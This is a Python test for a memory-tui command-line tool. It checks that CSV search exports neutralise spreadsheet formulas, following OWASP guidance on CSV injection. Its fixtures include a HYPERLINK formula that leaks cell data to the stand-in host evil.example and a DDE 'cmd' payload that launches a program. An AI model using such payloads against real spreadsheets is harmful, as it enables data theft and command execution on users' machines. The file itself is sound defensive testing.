"""``memory-tui search --format csv``: notes that a spreadsheet would run as formulas are
written as text (OWASP's CSV injection advice), through the real console script."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from cli_support import git_repo, run_cli
from fakes import FakeEmbedder

from engine.embedding.base import DIMENSION
from engine.output.export import csv_cell_text
from engine.services.memory import Memory

HOSTILE = {
    '=HYPERLINK("http://evil.example/?leak="&A1,"Flange torque")': "'=HYPERLINK(",
    "+flange torque is 40 Nm, then cmd|' /C calc'!A0": "'+flange torque",
    "-flange torque drops 2% per year": "'-flange torque",
    "@SUM(1+1) flange torque table": "'@SUM(1+1)",
    "Flange torque:\n=1+1 on line two\nline three": "Flange torque:\n=1+1",
}
"""Note → how its CSV cell starts. (The store strips leading blanks and turns CRLF into LF,
so a note never starts with a tab or a carriage return: the unit tests cover those.)"""


def test_search_csv_neutralises_formulas_from_a_real_store(tmp_path: Path) -> None:
    home = tmp_path / "home"
    home.mkdir()
    root = git_repo(tmp_path / "project")
    with Memory.open(root, embedder=FakeEmbedder(dimension=DIMENSION)) as memory:
        for content in HOSTILE:
            memory.add(content, category="gotcha", keywords=["=flange"])

    result = run_cli(
        "search", "flange torque", "--mode", "keyword", "--format", "csv", "--limit", "20",
        cwd=root, home=home,
    )  # fmt: skip

    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
    written = {csv_cell_text(row["content"]): row["content"] for row in rows}
    assert set(written) == set(HOSTILE)
    for content, start in HOSTILE.items():
        assert written[content].startswith(start), (content, written[content])
    assert {row["keywords"] for row in rows} == {"'=flange"}
    assert all(row["category"] == "gotcha" for row in rows)
